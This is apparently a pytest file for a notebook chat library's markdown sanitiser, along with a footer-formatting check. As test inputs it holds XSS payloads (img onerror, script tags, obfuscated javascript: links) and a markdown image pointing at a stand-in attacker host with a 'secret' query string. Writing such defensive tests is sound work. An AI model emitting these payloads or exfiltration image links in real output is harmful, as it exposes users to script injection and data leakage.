from nbchat.core.render import footer, safe_markdown
from nbchat.core.types import Reply, Usage


def test_raw_html_is_escaped_outside_code():
    out = safe_markdown('hi <img src=x onerror="alert(1)"> <script>alert(2)</script>')
    assert "<img" not in out and "<script" not in out
    assert "&lt;img src=x" in out and "&lt;script&gt;" in out


def test_code_is_left_as_written():
    text = "Use `<b>` tags:\n\n```html\n<script>x()</script>\n```\nafter <i>"
    out = safe_markdown(text)
    assert "`<b>`" in out
    assert "```html\n<script>x()</script>\n```\n" in out
    assert out.endswith("after &lt;i&gt;")


def test_unclosed_fence_stays_code():
    out = safe_markdown("```\n<b>")
    assert out == "```\n<b>"


def test_javascript_links_are_neutralised():
    for target in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:x",
                   "&#106;avascript:x", "data:text/html,<b>", "vbscript:x"):
        out = safe_markdown(f"[click]({target})")
        assert "](#" in out, (target, out)
    ref = safe_markdown("[a][1]\n\n[1]: javascript:alert(1)")
    assert "javascript" not in ref
    assert "(https://example.com/x)" in safe_markdown("[ok](https://example.com/x)")


def test_remote_images_become_links():
    out = safe_markdown("![leak](https://evil.example/?q=secret)")
    assert "![" not in out
    assert "](https://evil.example/?q=secret)" in out


def test_footer_figures():
    r = Reply(text="x", model="llamacpp:smollm2", usage=Usage(12, 40),
              time_to_first_token=0.25, duration=1.25)
    assert footer(r) == "llamacpp:smollm2 · 12 in / 40 out tokens · first token 0.25 s · 40.0 tok/s"
    md = r._repr_markdown_()
    assert md.startswith("x") and "<sub>" in md
